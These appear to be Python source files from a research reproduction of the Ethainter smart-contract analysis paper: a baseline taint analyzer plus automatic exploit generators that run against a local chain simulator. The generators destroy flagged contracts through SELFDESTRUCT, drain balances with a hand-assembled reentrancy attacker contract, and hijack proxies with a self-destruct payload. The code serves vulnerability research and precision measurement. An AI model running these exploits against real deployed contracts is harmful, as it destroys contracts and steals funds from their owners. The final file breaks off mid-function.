        facts = extract_facts(program)

        # ---------------------------------------------- taint propagation
        # Flat, flavor-less forward taint from calldata, with no guard
        # modeling at all (everything propagates everywhere).
        tainted: Set[str] = {variable for variable, _ in facts.calldata_defs}
        edges = [(s, d) for s, d, _ in facts.flow_edges]
        for write in facts.memory_writes:
            edges.append((write.var, memory_var(write.address)))
        for read in facts.memory_reads:
            edges.append((memory_var(read.address), read.var))
        # Storage round-trips propagate too (no flavor distinction).
        slot_tainted: Set[int] = set()
        changed = True
        while changed:
            changed = False
            for source, dest in edges:
                if source in tainted and dest not in tainted:
                    tainted.add(dest)
                    changed = True
            for store in facts.storage_stores:
                if store.value_var in tainted and store.const_slot is not None:
                    if store.const_slot not in slot_tainted:
                        slot_tainted.add(store.const_slot)
                        changed = True
            for load in facts.storage_loads:
                if (
                    load.const_slot in slot_tainted
                    and load.def_var is not None
                    and load.def_var not in tainted
                ):
                    tainted.add(load.def_var)
                    changed = True

        # Values "validated": they flow into an EQ whose result reaches a
        # JUMPI condition.  (Only equality counts — Securify's pattern.)
        eq_inputs: Set[str] = set()
        defining = facts.def_stmt
        jumpi_conditions = {stmt.uses[1] for stmt in facts.jumpis}

        def condition_reaches_jumpi(variable: str, depth: int = 0) -> bool:
            if depth > 8:
                return False
            if variable in jumpi_conditions:
                return True
            # Walk forward one level through ISZERO/AND/OR wrappers.
            for source, dest, stmt in facts.flow_edges:
                if source == variable and stmt.opcode in ("ISZERO", "AND", "OR"):
                    if condition_reaches_jumpi(dest, depth + 1):
                        return True
            return False

        for stmt in program.statements():
            if stmt.opcode == "EQ" and condition_reaches_jumpi(stmt.def_var):
                eq_inputs.update(stmt.uses)

        validated: Set[str] = set(eq_inputs)
        # Closure in both directions: anything flowing into a validated
        # value is validated (the original input word), and so is anything
        # that value flows to (sibling copies of the same input).
        changed = True
        while changed:
            changed = False
            for source, dest in edges:
                if dest in validated and source not in validated:
                    validated.add(source)
                    changed = True
                if source in validated and dest not in validated:
                    validated.add(dest)
                    changed = True

        # ------------------------------------------------------- patterns
        sender_equalities_present = any(
            stmt.opcode == "EQ"
            and any(
                defining.get(use) is not None and defining[use].opcode == "CALLER"
                for use in stmt.uses
            )
            for stmt in program.statements()
        )

        for store in facts.storage_stores:
            if store.const_slot is None:
                result.violations.append(
                    SecurifyViolation(
                        pattern=UNRESTRICTED_WRITE,
                        statement=store.statement.ident,
                        pc=store.statement.pc,
                        detail="write through computed storage address",
                    )
                )
            elif not sender_equalities_present:
                result.violations.append(
                    SecurifyViolation(
                        pattern=UNRESTRICTED_WRITE,
                        statement=store.statement.ident,
                        pc=store.statement.pc,
                        detail="state write with no sender check in contract",
                    )
                )

        # Sinks per the original pattern (paper §6.2 footnote: "inputs that
        # do not flow to a guard (JUMPI), yet flow to an SSTORE, SLOAD,
        # MLOAD, MSTORE, HASH, or CALL"): address/key positions and call
        # targets — the places where unvalidated input steers an access.
        state_sinks: List[tuple] = []
        for store in facts.storage_stores:
            state_sinks.append((store.statement, store.address_var))
        for load in facts.storage_loads:
            state_sinks.append((load.statement, load.address_var))
        for call in facts.calls:
            state_sinks.append((call.statement, call.address_var))
        for hash_fact in facts.hashes:
            for arg in hash_fact.args:
                state_sinks.append((hash_fact.statement, arg))

        seen: Set[str] = set()
        for stmt, variable in state_sinks:
            if variable in tainted and variable not in validated and stmt.ident not in seen:
                seen.add(stmt.ident)
                result.violations.append(
                    SecurifyViolation(
                        pattern=MISSING_INPUT_VALIDATION,
                        statement=stmt.ident,
                        pc=stmt.pc,
                        detail="unvalidated input reaches %s" % stmt.opcode,
                    )
                )

        result.elapsed_seconds = time.monotonic() - started
        return result
