"""Baseline analyzers reproduced for the paper's tool comparison (§6.2).

Three tools at three design points:

* :mod:`repro.baselines.securify` — bytecode-level pattern analysis without
  data-structure or guard-taint modeling (the original Securify's
  "unrestricted write" and "missing input validation" violation patterns),
* :mod:`repro.baselines.securify2` — source-level analysis over the MiniSol
  AST, applicable only to recent-compiler sources, blind to inline-assembly
  patterns, no composite-taint rules,
* :mod:`repro.baselines.teether` — symbolic execution over EVM bytecode with
  exploit generation for (accessible/tainted) selfdestruct; high per-report
  confidence, single-transaction scope, path-explosion timeouts.
"""

from repro.baselines.securify import SecurifyAnalysis, SecurifyResult
from repro.baselines.securify2 import Securify2Analysis, Securify2Result
from repro.baselines.teether import TeEtherAnalysis, TeEtherResult

__all__ = [
    "SecurifyAnalysis",
    "SecurifyResult",
    "Securify2Analysis",
    "Securify2Result",
    "TeEtherAnalysis",
    "TeEtherResult",
]
