"""Ethainter-Kill: exploit generation guided by the analysis artifacts.

Strategy (mirroring §6.1, where Ethainter "pinpoints vulnerabilities with
enough precision to actually exploit them end-to-end"):

1. Take the flagged ``SELFDESTRUCT`` statements from an
   :class:`~repro.core.analysis.AnalysisResult`.
2. Map each to the public selector(s) whose dispatcher entry reaches it.
   If none exists, the vulnerable statement is private — the paper's
   "unable to find a public entry point" failure class.
3. Recursively *plan* the composite escalation: for every guard protecting
   the target, find an attacker-reachable store that compromises it (a
   sender-keyed or attacker-keyed mapping write for ``DS_LOOKUP`` guards, a
   tainted write to the compared slot for ``EQ_SENDER`` guards), plan that
   store's own guards first, and prepend the enabling calls.
4. Execute the transaction sequence from a fresh attacker account, trying a
   small set of argument heuristics (the attacker's address, 0, 1) for
   calldata words the analysis did not pin down.
5. Verify success by scanning the VM trace of the final transaction for an
   executed ``SELFDESTRUCT`` at the victim's address.

Failures are expected and recorded — automated exploit generation is
incomplete by nature (the paper destroys 16.7% of flagged contracts and
treats that as a lower bound on precision).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Set, Tuple

from repro.chain import Blockchain
from repro.core.analysis import AnalysisResult
from repro.core.guards import DS_LOOKUP, EQ_SENDER, Guard
from repro.core.vulnerabilities import ACCESSIBLE_SELFDESTRUCT, TAINTED_SELFDESTRUCT
from repro.decompiler.functions import blocks_reachable_from, find_public_functions
from repro.minisol.abi import encode_args

MAX_PLAN_DEPTH = 6
MAX_ATTEMPTS = 24


@dataclass
class PlannedCall:
    """One transaction in an attack plan."""

    selector: int
    arg_count: int
    # Argument indexes that must carry the attacker's address (tainted args
    # traced back to specific calldata offsets); others use heuristics.
    address_args: Set[int] = field(default_factory=set)
    purpose: str = ""


@dataclass
class KillOutcome:
    """Result of attacking one contract."""

    address: int
    attempted: bool
    destroyed: bool
    transactions_sent: int = 0
    plan: List[PlannedCall] = field(default_factory=list)
    reason: str = ""


@dataclass
class KillReport:
    """Aggregate over a batch of contracts."""

    outcomes: List[KillOutcome] = field(default_factory=list)

    @property
    def flagged(self) -> int:
        return len(self.outcomes)

    @property
    def attempted(self) -> int:
        return sum(1 for outcome in self.outcomes if outcome.attempted)

    @property
    def destroyed(self) -> int:
        return sum(1 for outcome in self.outcomes if outcome.destroyed)

    @property
    def kill_rate(self) -> float:
        return self.destroyed / self.flagged if self.flagged else 0.0


class EthainterKill:
    """Drives exploits against contracts deployed on a chain simulator.

    ``solver_assisted=True`` enables a hybrid mode beyond the paper's tool:
    when the plan-driven attack fails (e.g. a non-sender magic-value guard
    the analysis rightly ignores but the argument heuristics cannot satisfy),
    the symbolic baseline's constraint solver is asked for concrete exploit
    calldata and the solved transaction is replayed.  This is the
    static+symbolic combination the paper's teEther comparison hints at.
    """

    def __init__(
        self,
        chain: Blockchain,
        attacker: int = 0xA77AC7E2,
        solver_assisted: bool = False,
    ):
        self.chain = chain
        self.attacker = attacker
        self.solver_assisted = solver_assisted
        chain.fund(attacker, 10**21)

    # ------------------------------------------------------------ planning

    def _selector_map(self, result: AnalysisResult) -> Dict[str, Set[int]]:
        """Block id -> selectors whose public entry reaches the block."""
        program = result.program
        ownership: Dict[str, Set[int]] = {}
        for public in find_public_functions(program):
            for block_id in blocks_reachable_from(program, public.entry_block):
                ownership.setdefault(block_id, set()).add(public.selector)
        return ownership

    def _arg_count(self, result: AnalysisResult, selector: int) -> int:
        """Max ABI argument index observed via CALLDATALOAD in the function."""
        program = result.program
        entry = None
        for public in find_public_functions(program):
            if public.selector == selector:
                entry = public.entry_block
        if entry is None:
            return 0
        blocks = blocks_reachable_from(program, entry)
        max_index = -1
        for variable, stmt in result.facts.calldata_defs:
            if stmt.block not in blocks:
                continue
            offset_vars = stmt.uses[:1]
            for offset_var in offset_vars:
                offset = result.facts.const.get(offset_var)
                if offset is not None and offset >= 4 and (offset - 4) % 32 == 0:
                    max_index = max(max_index, (offset - 4) // 32)
        return max_index + 1

    def _address_args(
        self, result: AnalysisResult, selector: int, target_vars: Sequence[str]
    ) -> Set[int]:
        """Argument indexes whose calldata feeds ``target_vars``' taint."""
        indexes: Set[int] = set()
        witness_by_var = result.taint.witness
        stmt_by_id = {s.ident: s for s in result.program.statements()}
        for variable in target_vars:
            source_id = witness_by_var.get(variable)
            if source_id is None:
                continue
            stmt = stmt_by_id.get(source_id)
            if stmt is None or not stmt.uses:
                continue
            offset = result.facts.const.get(stmt.uses[0])
            if offset is not None and offset >= 4 and (offset - 4) % 32 == 0:
                indexes.add((offset - 4) // 32)
        return indexes

    def _enabling_stores(
        self, result: AnalysisResult, guard: Guard
    ) -> List[Tuple[str, List[str]]]:
        """Statements whose execution compromises ``guard``.

        Returns (statement id, variables-to-force-to-attacker) pairs.
        """
        facts, storage = result.facts, result.storage
        out: List[Tuple[str, List[str]]] = []
        if guard.kind == DS_LOOKUP and guard.mapping_slot is not None:
            for store in facts.storage_stores:
                for source in storage.copy_sources.get(
                    store.address_var, {store.address_var}
                ):
                    access = storage.mapping_accesses.get(source)
                    if access is None or access.base_slot != guard.mapping_slot:
                        continue
                    if storage.is_sender_derived(access.key_var):
                        out.append((store.statement.ident, []))
                    else:
                        out.append((store.statement.ident, [access.key_var]))
        elif guard.kind == EQ_SENDER:
            for store in facts.storage_stores:
                if store.const_slot is not None and store.const_slot in guard.compared_slots:
                    out.append((store.statement.ident, [store.value_var]))
        return out

    def _plan_statement(
        self,
        result: AnalysisResult,
        selector_map: Dict[str, Set[int]],
        statement_id: str,
        block_id: str,
        force_vars: Sequence[str],
        visited: Set[str],
        depth: int,
    ) -> Optional[List[PlannedCall]]:
        """Plan the calls needed to execute ``statement_id`` as the attacker."""
        if depth > MAX_PLAN_DEPTH or statement_id in visited:
            return None
        visited = visited | {statement_id}

        selectors = selector_map.get(block_id)
        if not selectors:
            return None  # private statement: no public entry point
        selector = min(selectors)

        plan: List[PlannedCall] = []
        for guard in result.guards.guards_of(statement_id):
            if guard.ident not in result.taint.compromised_guards:
                return None  # genuinely guarded: not exploitable this way
            satisfied = False
            for enabler_id, enabler_vars in self._enabling_stores(result, guard):
                enabler_stmt = next(
                    (s for s in result.program.statements() if s.ident == enabler_id),
                    None,
                )
                if enabler_stmt is None:
                    continue
                sub_plan = self._plan_statement(
                    result,
                    selector_map,
                    enabler_id,
                    enabler_stmt.block,
                    enabler_vars,
                    visited,
                    depth + 1,
                )
                if sub_plan is not None:
                    plan.extend(sub_plan)
                    satisfied = True
                    break
            if not satisfied:
                return None
        arg_count = self._arg_count(result, selector)
        plan.append(
            PlannedCall(
                selector=selector,
                arg_count=arg_count,
                address_args=self._address_args(result, selector, force_vars),
                purpose="reach %s" % statement_id,
            )
        )
        return plan

    # ----------------------------------------------------------- execution

    def _execute_plan(self, address: int, plan: List[PlannedCall]) -> Tuple[bool, int]:
        """Run ``plan``; returns (destroyed, transactions sent)."""
        sent = 0
        attempts = 0
        # Argument heuristics for non-pinned words, tried in order.
        for filler in (self.attacker, 1, 0):
            if attempts >= MAX_ATTEMPTS:
                break
            attempts += 1
            destroyed = False
            for call in plan:
                args = [
                    self.attacker if index in call.address_args else filler
                    for index in range(call.arg_count)
                ]
                calldata = call.selector.to_bytes(4, "big") + encode_args(args)
                receipt = self.chain.transact(self.attacker, address, calldata)
                sent += 1
                if receipt.result is not None and any(
                    entry.op == "SELFDESTRUCT" and entry.address == address
                    for entry in receipt.result.trace
                ):
                    destroyed = True
            if destroyed and self.chain.state.is_destroyed(address):
                return True, sent
            if self.chain.state.is_destroyed(address):
                return True, sent
        return False, sent

    def _solver_fallback(self, address: int) -> Tuple[bool, int]:
        """Ask the symbolic engine for exploit calldata and replay it."""
        from repro.baselines.teether import TeEtherAnalysis

        code = self.chain.state.get_code(address)
        storage = dict(self.chain.state.account(address).storage)
        findings = TeEtherAnalysis(attacker=self.attacker).analyze(code, storage)
        sent = 0
        for finding in findings.findings:
            if not finding.exploit_calldata_words:
                continue
            size = max(finding.exploit_calldata_words) + 32
            calldata = bytearray(size)
            for offset, word in finding.exploit_calldata_words.items():
                calldata[offset : offset + 32] = word.to_bytes(32, "big")
            self.chain.transact(self.attacker, address, bytes(calldata))
            sent += 1
            if self.chain.state.is_destroyed(address):
                return True, sent
        return False, sent

    # ---------------------------------------------------------------- API

    def attack(self, address: int, result: AnalysisResult) -> KillOutcome:
        """Attempt to destroy the contract at ``address``."""
        flagged = [
            warning
            for warning in result.warnings
            if warning.kind in (ACCESSIBLE_SELFDESTRUCT, TAINTED_SELFDESTRUCT)
        ]
        if not flagged or result.program is None or result.taint is None:
            return KillOutcome(
                address=address,
                attempted=False,
                destroyed=False,
                reason="not flagged for selfdestruct",
            )

        selector_map = self._selector_map(result)
        stmt_by_id = {s.ident: s for s in result.program.statements()}

        for warning in flagged:
            stmt = stmt_by_id.get(warning.statement)
            if stmt is None:
                continue
            plan = self._plan_statement(
                result,
                selector_map,
                stmt.ident,
                stmt.block,
                [],
                set(),
                0,
            )
            if plan is None:
                continue
            destroyed, sent = self._execute_plan(address, plan)
            if destroyed:
                return KillOutcome(
                    address=address,
                    attempted=True,
                    destroyed=True,
                    transactions_sent=sent,
                    plan=plan,
                )
            if self.solver_assisted:
                solved, extra = self._solver_fallback(address)
                sent += extra
                if solved:
                    return KillOutcome(
                        address=address,
                        attempted=True,
                        destroyed=True,
                        transactions_sent=sent,
                        plan=plan,
                        reason="solver-assisted",
                    )
            return KillOutcome(
                address=address,
                attempted=True,
                destroyed=False,
                transactions_sent=sent,
                plan=plan,
                reason="plan executed but contract survived",
            )
        return KillOutcome(
            address=address,
            attempted=False,
            destroyed=False,
            reason="no public entry point reaches the flagged statement",
        )

    def attack_many(
        self, targets: Sequence[Tuple[int, AnalysisResult]]
    ) -> KillReport:
        """Attack every (address, analysis result) pair; aggregate."""
        report = KillReport()
        for address, result in targets:
            report.outcomes.append(self.attack(address, result))
        return report

    def attack_bytecodes(
        self,
        targets: Sequence[Tuple[int, bytes]],
        config=None,
        cache=None,
    ) -> KillReport:
        """Analyze and attack every (address, runtime bytecode) pair.

        Runs the staged analysis itself, sharing one
        :class:`~repro.core.pipeline.ArtifactCache` across the batch so
        re-deployments of identical bytecode (common on-chain, common in
        kill sweeps) are analyzed once.
        """
        from repro.core.analysis import EthainterAnalysis
        from repro.core.pipeline import ArtifactCache

        analyzer = EthainterAnalysis(
            config, cache=cache if cache is not None else ArtifactCache()
        )
        return self.attack_many(
            [
                (address, analyzer.analyze(runtime))
                for address, runtime in targets
            ]
        )
