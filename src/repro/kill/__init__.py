"""Ethainter-Kill: automatic end-to-end exploitation of flagged contracts.

Reproduces the companion tool of paper §6.1: it reads Ethainter's analysis
output, builds a transaction sequence that escalates through the compromised
guards (the composite attack), executes it against the local chain
simulator, and verifies destruction by checking the VM instruction trace for
an executed ``SELFDESTRUCT`` opcode — exactly the success criterion the
paper uses on its Ropsten fork.
"""

from repro.kill.bundle import BundleKill, BundleKillOutcome, deploy_bundle
from repro.kill.killer import EthainterKill, KillOutcome, KillReport
from repro.kill.reentrancy import (
    ReentrancyKill,
    ReentrancyOutcome,
    ReentrancyReport,
)

__all__ = [
    "BundleKill",
    "BundleKillOutcome",
    "EthainterKill",
    "KillOutcome",
    "KillReport",
    "ReentrancyKill",
    "ReentrancyOutcome",
    "ReentrancyReport",
    "deploy_bundle",
]
