"""Reentrancy exploitation: multi-transaction drains guided by the analysis.

Extends Ethainter-Kill from "destroy the contract" to "drain its balance":
for every ``reentrant-call`` warning the planner

1. maps the flagged call statement to the public selector whose dispatcher
   entry reaches it (the *withdraw* function) and reads off its ABI word
   count,
2. finds a *deposit* entry: a public function that both observes
   ``CALLVALUE`` and stores to the drained storage path's base slot (an
   attacker needs a ledger balance before the stale-check window pays out),
3. assembles a bespoke attacker contract whose **fallback re-enters the
   victim** — the victim's gas-forwarding payout calls back into the
   attacker with empty calldata, and the attacker, for a stored number of
   rounds, re-issues the withdraw while the victim's balance check still
   sees pre-payout state,
4. replays the whole chain on :class:`repro.chain.Blockchain`: deploy,
   prime (deposit through the attacker contract), trigger, and measure the
   victim's balance delta.

Success is *profit*: the attacker contract ends holding more than it put
in.  Against a checks-effects-interactions-ordered victim the re-entered
withdraw reverts on the already-decremented balance, the attacker merely
recovers its own deposit, and the attack reports ``drained=False`` — the
negative control the acceptance tests pin.

Attacker contract layout (hand-assembled; MiniSol has no payable fallback):

    calldata             action
    --------             ------
    (empty)              fallback: if rounds := SLOAD(0) > 0, decrement and
                         re-enter victim.withdraw(amount)
    0x00000001           prime: forward msg.value to victim's deposit entry
    0x00000002 ++ n      start: SSTORE(0, n); call victim.withdraw(amount)
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set

from repro.chain import Blockchain
from repro.core.analysis import AnalysisResult
from repro.core.vulnerabilities import REENTRANT_CALL
from repro.decompiler.functions import blocks_reachable_from, find_public_functions
from repro.evm.assembler import Label, LabelRef, Op, Push, assemble, init_code_for
from repro.minisol.abi import encode_word

PRIME_SELECTOR = 1
START_SELECTOR = 2
DEFAULT_DEPOSIT = 10**18
DEFAULT_ROUNDS = 5


@dataclass
class ReentrancyOutcome:
    """Result of one drain attempt."""

    address: int
    attempted: bool
    drained: bool
    transactions_sent: int = 0
    victim_balance_before: int = 0
    victim_balance_after: int = 0
    attacker_profit: int = 0  # attacker contract balance minus its deposit
    attacker_contract: Optional[int] = None
    reason: str = ""


@dataclass
class ReentrancyReport:
    """Aggregate over a batch of flagged contracts."""

    outcomes: List[ReentrancyOutcome] = field(default_factory=list)

    @property
    def flagged(self) -> int:
        return len(self.outcomes)

    @property
    def drained(self) -> int:
        return sum(1 for outcome in self.outcomes if outcome.drained)


class ReentrancyKill:
    """Drives reentrancy drains against contracts on a chain simulator."""

    def __init__(self, chain: Blockchain, attacker: int = 0xA77AC7E3):
        self.chain = chain
        self.attacker = attacker
        chain.fund(attacker, 10**21)

    # ------------------------------------------------------------ planning

    def _selector_map(self, result: AnalysisResult) -> Dict[str, Set[int]]:
        """Block id -> selectors whose public entry reaches the block."""
        program = result.program
        ownership: Dict[str, Set[int]] = {}
        for public in find_public_functions(program):
            for block_id in blocks_reachable_from(program, public.entry_block):
                ownership.setdefault(block_id, set()).add(public.selector)
        return ownership

    def _arg_count(self, result: AnalysisResult, selector: int) -> int:
        """Max ABI argument index observed via CALLDATALOAD in the function."""
        program = result.program
        entry = None
        for public in find_public_functions(program):
            if public.selector == selector:
                entry = public.entry_block
        if entry is None:
            return 0
        blocks = blocks_reachable_from(program, entry)
        max_index = -1
        for _variable, stmt in result.facts.calldata_defs:
            if stmt.block not in blocks:
                continue
            for offset_var in stmt.uses[:1]:
                offset = result.facts.const.get(offset_var)
                if offset is not None and offset >= 4 and (offset - 4) % 32 == 0:
                    max_index = max(max_index, (offset - 4) // 32)
        return max_index + 1

    def _deposit_selector(
        self, result: AnalysisResult, slot: Optional[int], exclude: int
    ) -> Optional[int]:
        """A public function that sees CALLVALUE and writes the drained
        path's base slot — the ledger entry the attack must prime."""
        facts, storage = result.facts, result.storage
        program = result.program
        candidates: List[int] = []
        for public in find_public_functions(program):
            if public.selector == exclude:
                continue
            blocks = blocks_reachable_from(program, public.entry_block)
            sees_value = any(
                stmt.opcode == "CALLVALUE"
                for block_id in blocks
                for stmt in program.blocks[block_id].statements
            )
            if not sees_value:
                continue
            writes_path = False
            for store in facts.storage_stores:
                if store.statement.block not in blocks:
                    continue
                if slot is not None and store.const_slot == slot:
                    writes_path = True
                    break
                for source in storage.copy_sources.get(
                    store.address_var, {store.address_var}
                ):
                    access = storage.mapping_accesses.get(source)
                    if access is not None and (
                        slot is None or access.base_slot == slot
                    ):
                        writes_path = True
                        break
                if writes_path:
                    break
            if writes_path:
                candidates.append(public.selector)
        return min(candidates) if candidates else None

    # ----------------------------------------------------- attacker contract

    def _attacker_runtime(
        self,
        victim: int,
        deposit_selector: int,
        withdraw_selector: int,
        withdraw_args: int,
        amount: int,
    ) -> bytes:
        """Assemble the attacker's runtime for one specific victim."""

        def victim_call(selector: int, args: List[int], send_value: bool) -> List:
            """CALL(gas, victim, value, 0, 4+32n, 0, 0), calldata in memory."""
            items: List = [Push(selector << 224), Push(0), Op("MSTORE")]
            for index, word in enumerate(args):
                items.extend([Push(word), Push(4 + 32 * index), Op("MSTORE")])
            items.extend(
                [
                    Push(0),  # ret size
                    Push(0),  # ret offset
                    Push(4 + 32 * len(args)),  # args size
                    Push(0),  # args offset
                    Op("CALLVALUE") if send_value else Push(0),  # value
                    Push(victim),
                    Op("GAS"),
                    Op("CALL"),
                    Op("POP"),
                ]
            )
            return items

        withdraw = victim_call(
            withdraw_selector, [amount] * withdraw_args, send_value=False
        )
        items: List = [
            # Empty calldata => the value-receipt fallback.
            Op("CALLDATASIZE"),
            Op("ISZERO"),
            LabelRef("fallback"),
            Op("JUMPI"),
            # Otherwise dispatch on the 4-byte selector.
            Push(0),
            Op("CALLDATALOAD"),
            Push(224),
            Op("SHR"),
            Op("DUP1"),
            Push(PRIME_SELECTOR),
            Op("EQ"),
            LabelRef("prime"),
            Op("JUMPI"),
            Op("DUP1"),
            Push(START_SELECTOR),
            Op("EQ"),
            LabelRef("start"),
            Op("JUMPI"),
            Op("STOP"),
            # prime: forward msg.value into the victim's ledger.
            Label("prime"),
            *victim_call(deposit_selector, [], send_value=True),
            Op("STOP"),
            # start: SSTORE(0, rounds) then fire the first withdraw.
            Label("start"),
            Push(4),
            Op("CALLDATALOAD"),
            Push(0),
            Op("SSTORE"),
            *withdraw,
            Op("STOP"),
            # fallback: while rounds remain, burn one and re-enter.
            Label("fallback"),
            Push(0),
            Op("SLOAD"),
            Op("DUP1"),
            Op("ISZERO"),
            LabelRef("done"),
            Op("JUMPI"),
            Push(1),
            Op("SWAP1"),
            Op("SUB"),
            Push(0),
            Op("SSTORE"),
            *withdraw,
            Label("done"),
            Op("STOP"),
        ]
        return assemble(items)

    # ---------------------------------------------------------------- API

    def attack(
        self,
        address: int,
        result: AnalysisResult,
        deposit: int = DEFAULT_DEPOSIT,
        rounds: int = DEFAULT_ROUNDS,
    ) -> ReentrancyOutcome:
        """Attempt to drain the contract at ``address``."""
        flagged = [w for w in result.warnings if w.kind == REENTRANT_CALL]
        if not flagged or result.program is None:
            return ReentrancyOutcome(
                address=address,
                attempted=False,
                drained=False,
                reason="not flagged reentrant",
            )

        selector_map = self._selector_map(result)
        stmt_by_id = {s.ident: s for s in result.program.statements()}

        for warning in flagged:
            stmt = stmt_by_id.get(warning.statement)
            if stmt is None:
                continue
            selectors = selector_map.get(stmt.block)
            if not selectors:
                continue  # private call site: no public entry point
            withdraw_selector = min(selectors)
            deposit_selector = self._deposit_selector(
                result, warning.slot, exclude=withdraw_selector
            )
            if deposit_selector is None:
                continue  # nothing establishes the drained ledger entry
            return self._execute(
                address,
                deposit_selector,
                withdraw_selector,
                self._arg_count(result, withdraw_selector),
                deposit,
                rounds,
            )
        return ReentrancyOutcome(
            address=address,
            attempted=False,
            drained=False,
            reason="no public deposit/withdraw entry pair found",
        )

    def replay(
        self,
        address: int,
        deposit_selector: int,
        withdraw_selector: int,
        withdraw_args: int = 1,
        deposit: int = DEFAULT_DEPOSIT,
        rounds: int = DEFAULT_ROUNDS,
    ) -> ReentrancyOutcome:
        """Run the attack against explicit selectors, bypassing the planner.

        The negative control: replaying the exact exploit against a
        checks-effects-interactions-ordered victim must come back with
        ``drained=False`` (the re-entered withdraw reverts on the
        already-decremented balance and the attacker only recovers its own
        deposit).
        """
        return self._execute(
            address, deposit_selector, withdraw_selector, withdraw_args,
            deposit, rounds,
        )

    def _execute(
        self,
        address: int,
        deposit_selector: int,
        withdraw_selector: int,
        withdraw_args: int,
        deposit: int,
        rounds: int,
    ) -> ReentrancyOutcome:
        chain = self.chain
        runtime = self._attacker_runtime(
            address, deposit_selector, withdraw_selector, withdraw_args, deposit
        )
        sent = 0
        deployed = chain.deploy(self.attacker, init_code_for(runtime))
        sent += 1
        contract = deployed.contract_address
        if not deployed.success or contract is None:
            return ReentrancyOutcome(
                address=address,
                attempted=True,
                drained=False,
                transactions_sent=sent,
                reason="attacker deployment failed",
            )

        before = chain.state.get_balance(address)
        chain.transact(
            self.attacker,
            contract,
            PRIME_SELECTOR.to_bytes(4, "big"),
            value=deposit,
        )
        sent += 1
        chain.transact(
            self.attacker,
            contract,
            START_SELECTOR.to_bytes(4, "big") + encode_word(rounds),
        )
        sent += 1
        after = chain.state.get_balance(address)
        profit = chain.state.get_balance(contract) - deposit
        return ReentrancyOutcome(
            address=address,
            attempted=True,
            drained=profit > 0,
            transactions_sent=sent,
            victim_balance_before=before,
            victim_balance_after=after,
            attacker_profit=profit,
            attacker_contract=contract,
            reason="" if profit > 0 else "attack yielded no profit",
        )

    def attack_many(self, targets) -> ReentrancyReport:
        """Attack every (address, analysis result) pair; aggregate."""
        report = ReentrancyReport()
        for address, result in targets:
            report.outcomes.append(self.attack(address, result))
        return report
