"""Multi-contract exploit replay: confirm cross-contract verdicts on-chain.

The single-contract :class:`~repro.kill.killer.EthainterKill` deploys one
contract and tries to destroy it; cross-contract verdicts need the whole
*bundle* live at its declared addresses (the proxy must find its
implementation where the storage seed says it is).  :class:`BundleKill`
therefore materializes a :class:`~repro.core.linkage.ContractBundle`
directly into the world state — the bundle *is* the deployed world — and
replays the two composite attacks the merged fixpoint derives:

* **proxy-upgrade-hijack** — tx1 drives the proxy's delegatecall into the
  implementation's unprotected initializer, which (running against the
  proxy's storage) overwrites the dispatch slot with an attacker payload
  address; tx2 drives the same entry point again, now delegatecalling the
  payload (``PUSH1 0; SELFDESTRUCT``) — destroying the proxy.  Success
  criterion: the proxy account is destroyed, the paper's §6.1 check.

* **cross-contract-escalation** — one transaction to the forwarder's
  public entry routes the attacker's address through the trusted call
  edge; success is the victim's guarded storage slot now holding the
  attacker's address.

Both attacks are expected to *fail* on the benign bundle variants — the
replay doubles as the ground-truth check for the precision corpus.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional

from repro.chain import Blockchain
from repro.core.linkage import ContractBundle
from repro.minisol.abi import encode_call

# PUSH1 0x00; SELFDESTRUCT — the universal hijack payload: any delegatecall
# into this runtime destroys the *calling* contract (delegatecall keeps
# address=caller), paying out to address 0.
HIJACK_RUNTIME = bytes.fromhex("6000ff")

DEFAULT_ATTACKER = 0xA77AC7E2
PAYLOAD_ADDRESS = 0xBADC0DE


@dataclass
class BundleKillOutcome:
    """The replay verdict for one bundle attack."""

    attack: str  # "proxy-upgrade-hijack" | "cross-contract-escalation"
    success: bool
    target: int  # the contract the attack compromises
    transactions: int = 0
    detail: str = ""
    trace: List[str] = field(default_factory=list)  # one line per tx


def deploy_bundle(chain: Blockchain, bundle: ContractBundle) -> None:
    """Materialize the bundle into the world state at its declared
    addresses, storage seeds included."""
    for contract in bundle.contracts:
        chain.state.set_code(contract.address, contract.runtime())
        for slot, value in contract.storage:
            chain.state.set_storage(contract.address, slot, value)


class BundleKill:
    """Replays cross-contract exploits against a deployed bundle."""

    def __init__(
        self,
        chain: Optional[Blockchain] = None,
        attacker: int = DEFAULT_ATTACKER,
    ) -> None:
        self.chain = chain or Blockchain()
        self.attacker = attacker
        self.chain.fund(self.attacker, 10**18)

    def hijack_proxy(
        self,
        bundle: ContractBundle,
        proxy: int,
        entry_signature: str,
    ) -> BundleKillOutcome:
        """The two-transaction proxy-upgrade hijack.

        ``entry_signature`` names the proxy's public function that forwards
        its address argument into the implementation (e.g.
        ``"execute(address)"``).
        """
        deploy_bundle(self.chain, bundle)
        self.chain.state.set_code(PAYLOAD_ADDRESS, HIJACK_RUNTIME)
        trace: List[str] = []

        # tx1: route the payload address through the delegatecalled
        # initializer — on the vulnerable pair this rewrites the proxy's
        # dispatch slot; on the benign pair the guarded initializer reverts.
        receipt = self.chain.transact(
            self.attacker, proxy, encode_call(entry_signature, PAYLOAD_ADDRESS)
        )
        trace.append(
            "tx1 %s(payload=0x%x): success=%s"
            % (entry_signature, PAYLOAD_ADDRESS, receipt.success)
        )

        # tx2: the same entry point now delegatecalls whatever the dispatch
        # slot holds.  If tx1 landed, that is the SELFDESTRUCT payload and
        # the proxy dies; otherwise it is still the implementation.
        receipt = self.chain.transact(
            self.attacker, proxy, encode_call(entry_signature, self.attacker)
        )
        trace.append(
            "tx2 %s: success=%s destroyed=%s"
            % (entry_signature, receipt.success, sorted(receipt.destroyed))
        )

        destroyed = self.chain.state.is_destroyed(proxy)
        return BundleKillOutcome(
            attack="proxy-upgrade-hijack",
            success=destroyed,
            target=proxy,
            transactions=2,
            detail=(
                "proxy 0x%x destroyed via hijacked dispatch slot" % proxy
                if destroyed
                else "proxy 0x%x survived" % proxy
            ),
            trace=trace,
        )

    def escalate(
        self,
        bundle: ContractBundle,
        forwarder: int,
        victim: int,
        entry_signature: str,
        victim_slot: int,
    ) -> BundleKillOutcome:
        """The one-transaction trusted-caller escalation: route the
        attacker's address through ``forwarder`` into ``victim``'s guarded
        store, then check ``victim_slot`` for the attacker's address."""
        deploy_bundle(self.chain, bundle)
        receipt = self.chain.transact(
            self.attacker, forwarder, encode_call(entry_signature, self.attacker)
        )
        landed = (
